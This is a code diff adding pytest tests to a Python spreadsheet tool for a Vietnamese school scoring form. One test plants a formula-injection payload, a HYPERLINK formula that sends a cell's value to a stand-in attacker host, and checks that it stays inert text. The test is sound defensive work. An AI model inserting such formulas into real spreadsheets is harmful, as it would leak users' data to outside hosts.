@@ -471,6 +471,39 @@ def test_text_that_looks_like_a_formula_stays_text_in_the_form(
     assert any(isinstance(v, str) and "=1+1" in v for v in values)
 
 
+def test_scores_carried_into_the_form_stay_text(content_copy: Path, tmp_path: Path, capsys) -> None:
+    """`docgen form` carries the scores and notes already typed in scores.csv: a typed value that
+    looks like a formula is written as text, never as a live formula."""
+    import re
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
+    csv = content_copy / "2024" / "scores.csv"
+    lines = csv.read_text(encoding="utf-8-sig").splitlines(keepends=True)
+    cells = lines[2].rstrip("\n").split(";")  # the second unit (no ';' in its notes)
+    assert cells[1] == "thpt-nguyen-du"
+    cells[3] = "=1+1"  # its ND1
+    cells[-1] = f'"{evil.replace(chr(34), chr(34) * 2)}"'  # its notes
+    lines[2] = ";".join(cells) + "\n"
+    csv.write_text("".join(lines), encoding="utf-8")
+    form = tmp_path / "form.xlsx"
+    code, _, err, _ = run(
+        ["form", "--content", str(content_copy), "--year", "2024", "--out", str(form)], capsys
+    )
+    assert code == 0, err
+    with zipfile.ZipFile(form) as z:
+        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    formulas = re.findall(rb"<f>(.*?)</f>", xml)
+    assert formulas  # the form's own totals are still formulas
+    assert not any(b"HYPERLINK" in f or f == b"1+1" for f in formulas)
+    ws = load_workbook(form)["Chấm điểm"]
+    row = next(r for r in range(6, 18) if ws.cell(r, 2).value == "thpt-nguyen-du")
+    values = [ws.cell(row, c).value for c in range(1, ws.max_column + 1)]
+    assert "=1+1" in values and evil in values  # still there, as text
+
+
 def _scores_xlsx(path: Path, rows: int, bad: bool = False, lying: bool = False) -> Path:
     """A score sheet of ``rows`` units; ``lying``: the sheet's stated size says one row (the
     reader must stop by counting, not trust it)."""
@@ -726,6 +759,26 @@ def test_a_second_run_says_who_holds_the_lock(
         )
     assert code == 1 and "docgen rollover (test)" in err
     assert not (content_copy / "2025").exists()
+
+
+def test_form_in_place_waits_for_the_content_year(
+    content_copy: Path, capsys, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`docgen form` writing content/<year>/scores.xlsx (and renaming the old score files) holds
+    the content year's lock, like rollover and import."""
+    from docgen.files import locked
+
+    monkeypatch.setenv("DOCGEN_LOCK_WAIT", "0.3")
+    year = content_copy / "2024"
+    before = sorted(p.name for p in year.iterdir())
+    with locked(content_copy, "2024", "docgen import (test)"):
+        code, _, err, _ = run(["form", "--content", str(content_copy), "--year", "2024"], capsys)
+    assert code == 1 and "docgen import (test)" in err
+    assert sorted(p.name for p in year.iterdir()) == before  # nothing renamed, nothing written
+    code, _, err, _ = run(["form", "--content", str(content_copy), "--year", "2024"], capsys)
+    assert code == 0, err
+    assert (year / "scores.xlsx").is_file() and (year / "scores-cu.csv").is_file()
+    assert not (content_copy / ".lock-2024").exists()
 
 
 def test_two_rollovers_at_once(content_copy: Path) -> None:
